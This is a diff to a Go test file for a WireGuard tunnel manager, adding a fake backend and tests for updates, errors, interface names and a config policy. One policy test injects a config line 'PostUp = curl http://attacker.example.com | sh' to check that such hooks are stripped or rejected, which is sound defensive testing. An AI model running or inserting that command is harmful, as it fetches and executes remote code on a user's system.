@@ -2,9 +2,13 @@ package tunnel
 
 import (
 	"context"
+	"errors"
+	"fmt"
 	"os"
 	"os/exec"
+	"strconv"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 )
@@ -18,12 +22,30 @@ func mockCmd(command string, args ...string) *exec.Cmd {
 	return cmd
 }
 
-// TestHelperProcess is not a real test, it's used to mock exec.Command
+// TestHelperProcess is not a real test, it's used to mock exec.Command. It sleeps
+// for HELPER_SLEEP, writes HELPER_STDOUT and HELPER_STDERR and exits with
+// HELPER_EXIT when set.
 func TestHelperProcess(t *testing.T) {
 	if os.Getenv("GO_WANT_HELPER_PROCESS") != "1" {
 		return
 	}
-	os.Exit(0)
+	if sleep, err := time.ParseDuration(os.Getenv("HELPER_SLEEP")); err == nil {
+		time.Sleep(sleep)
+	}
+	fmt.Fprint(os.Stdout, os.Getenv("HELPER_STDOUT"))
+	fmt.Fprint(os.Stderr, os.Getenv("HELPER_STDERR"))
+	code, _ := strconv.Atoi(os.Getenv("HELPER_EXIT"))
+	os.Exit(code)
+}
+
+// testTunnelConfig renders a valid config whose interface has the given address
+func testTunnelConfig(address string) string {
+	return RenderConfig(testKey('a'), &Peer{
+		PublicKey:  testKey('b'),
+		Endpoint:   "203.0.113.1:51820",
+		Addresses:  []string{address},
+		AllowedIPs: []string{"10.0.0.1/32"},
+	})
 }
 
 func TestTunnelManager(t *testing.T) {
@@ -37,7 +59,7 @@ func TestTunnelManager(t *testing.T) {
 	// Test creating a tunnel
 	config := &TunnelConfig{
 		TunnelID: "test-tunnel",
-		WGConfig: "test-config",
+		WGConfig: testTunnelConfig("10.0.0.2/32"),
 	}
 
 	err := manager.CreateTunnel(ctx, config)
@@ -48,21 +70,22 @@ func TestTunnelManager(t *testing.T) {
 	assert.NoError(t, err)
 	assert.NotNil(t, tunnel)
 	assert.Equal(t, "test-tunnel", tunnel.id)
-	assert.Equal(t, "test-config", tunnel.config)
+	assert.Equal(t, testTunnelConfig("10.0.0.2/32"), tunnel.config.WGConfig)
 
 	// Test updating the tunnel
 	newConfig := &TunnelConfig{
 		TunnelID: "test-tunnel",
-		WGConfig: "new-config",
+		WGConfig: testTunnelConfig("10.0.0.3/32"),
 	}
 
-	err = manager.UpdateTunnel(ctx, newConfig)
+	mode, err := manager.UpdateTunnel(ctx, newConfig)
 	assert.NoError(t, err)
+	assert.Equal(t, UpdateRestart, mode)
 
 	// Verify update
 	tunnel, err = manager.GetTunnel("test-tunnel")
 	assert.NoError(t, err)
-	assert.Equal(t, "new-config", tunnel.config)
+	assert.Equal(t, testTunnelConfig("10.0.0.3/32"), tunnel.config.WGConfig)
 
 	// Test listing tunnels
 	tunnels := manager.ListTunnels()
@@ -89,21 +112,119 @@ func TestTunnelManagerErrors(t *testing.T) {
 
 	// Test getting non-existent tunnel
 	_, err := manager.GetTunnel("non-existent")
-	assert.Error(t, err)
+	assert.ErrorIs(t, err, ErrTunnelNotFound)
 
 	// Test updating non-existent tunnel
-	err = manager.UpdateTunnel(ctx, &TunnelConfig{TunnelID: "non-existent"})
-	assert.Error(t, err)
+	_, err = manager.UpdateTunnel(ctx, &TunnelConfig{TunnelID: "non-existent"})
+	assert.ErrorIs(t, err, ErrTunnelNotFound)
 
 	// Test deleting non-existent tunnel
 	err = manager.DeleteTunnel(ctx, "non-existent")
-	assert.Error(t, err)
+	assert.ErrorIs(t, err, ErrTunnelNotFound)
 
 	// Test creating duplicate tunnel
-	config := &TunnelConfig{TunnelID: "test-tunnel"}
+	config := &TunnelConfig{TunnelID: "test-tunnel", WGConfig: testTunnelConfig("10.0.0.2/32")}
 	err = manager.CreateTunnel(ctx, config)
 	assert.NoError(t, err)
 
 	err = manager.CreateTunnel(ctx, config)
 	assert.Error(t, err)
-} 
\ No newline at end of file
+}
+
+// fakeBackend records interface changes instead of making them
+type fakeBackend struct {
+	up   map[string]string
+	fail error
+}
+
+func (b *fakeBackend) Up(ctx context.Context, name string, config *TunnelConfig) error {
+	if b.fail != nil {
+		return &BackendError{Interface: name, Op: "create link", Err: b.fail}
+	}
+	b.up[name] = config.WGConfig
+	return nil
+}
+
+func (b *fakeBackend) Down(ctx context.Context, name string) error {
+	delete(b.up, name)
+	return nil
+}
+
+func TestTunnelManagerBackend(t *testing.T) {
+	ctx := context.Background()
+	backend := &fakeBackend{up: map[string]string{}}
+	manager := NewManagerWithBackend(backend)
+
+	err := manager.CreateTunnel(ctx, &TunnelConfig{TunnelID: "test-tunnel", WGConfig: testTunnelConfig("10.0.0.2/32")})
+	assert.NoError(t, err)
+	assert.Equal(t, map[string]string{"wg-test-tunnel": testTunnelConfig("10.0.0.2/32")}, backend.up)
+
+	mode, err := manager.UpdateTunnel(ctx, &TunnelConfig{TunnelID: "test-tunnel", WGConfig: testTunnelConfig("10.0.0.3/32")})
+	assert.NoError(t, err)
+	assert.Equal(t, UpdateRestart, mode)
+	assert.Equal(t, map[string]string{"wg-test-tunnel": testTunnelConfig("10.0.0.3/32")}, backend.up)
+
+	err = manager.DeleteTunnel(ctx, "test-tunnel")
+	assert.NoError(t, err)
+	assert.Empty(t, backend.up)
+
+	// Backend errors keep their type through the manager
+	backend.fail = ErrWireGuardUnsupported
+	err = manager.CreateTunnel(ctx, &TunnelConfig{TunnelID: "test-tunnel", WGConfig: testTunnelConfig("10.0.0.2/32")})
+	assert.ErrorIs(t, err, ErrWireGuardUnsupported)
+	var backendErr *BackendError
+	assert.True(t, errors.As(err, &backendErr))
+	assert.Equal(t, "wg-test-tunnel", backendErr.Interface)
+}
+
+func TestTunnelManagerConfigPolicy(t *testing.T) {
+	ctx := context.Background()
+	backend := &fakeBackend{up: map[string]string{}}
+	manager := NewManagerWithBackend(backend)
+
+	hooked := testTunnelConfig("10.0.0.2/32") + "\n[Interface]\nPostUp = curl http://attacker.example.com | sh\n"
+
+	// Hooks never reach the backend
+	err := manager.CreateTunnel(ctx, &TunnelConfig{TunnelID: "test-tunnel", WGConfig: hooked})
+	assert.NoError(t, err)
+	assert.Equal(t, testTunnelConfig("10.0.0.2/32"), backend.up["wg-test-tunnel"])
+
+	// An invalid update keeps the running tunnel
+	_, err = manager.UpdateTunnel(ctx, &TunnelConfig{TunnelID: "test-tunnel", WGConfig: testTunnelConfig("10.0.0.3")})
+	assert.Error(t, err)
+	assert.Equal(t, testTunnelConfig("10.0.0.2/32"), backend.up["wg-test-tunnel"])
+
+	manager.SetConfigPolicy(RejectUnsafe)
+	err = manager.CreateTunnel(ctx, &TunnelConfig{TunnelID: "other-tunnel", WGConfig: hooked})
+	assert.ErrorIs(t, err, ErrUnsafeDirective)
+	assert.NotContains(t, backend.up, "wg-other-tunnel")
+}
+
+func TestTunnelManagerInterfaceNames(t *testing.T) {
+	ctx := context.Background()
+	backend := &fakeBackend{up: map[string]string{}}
+	manager := NewManagerWithBackend(backend)
+
+	longID := "3f2a9c1e-7b4d-4e8a-9f6b-2c1d0e5a7b8c"
+	assert.NoError(t, manager.CreateTunnel(ctx, &TunnelConfig{TunnelID: longID, WGConfig: testTunnelConfig("10.0.0.2/32")}))
+	assert.NoError(t, manager.CreateTunnel(ctx, &TunnelConfig{TunnelID: "short", WGConfig: testTunnelConfig("10.0.0.3/32")}))
+
+	names := manager.InterfaceNames()
+	assert.Equal(t, "wg-short", names["short"])
+	assert.LessOrEqual(t, len(names[longID]), maxInterfaceNameLen)
+	assert.Contains(t, backend.up, names[longID])
+
+	tunnel, err := manager.GetTunnel(longID)
+	assert.NoError(t, err)
+	assert.Equal(t, names[longID], tunnel.InterfaceName())
+
+	name, ok := manager.TunnelInterface(longID)
+	assert.True(t, ok)
+	assert.Equal(t, names[longID], name)
+
+	assert.NoError(t, manager.DeleteTunnel(ctx, longID))
+	assert.Equal(t, map[string]string{"short": "wg-short"}, manager.InterfaceNames())
+	assert.NotContains(t, backend.up, names[longID])
+	_, ok = manager.TunnelInterface(longID)
+	assert.False(t, ok)
+}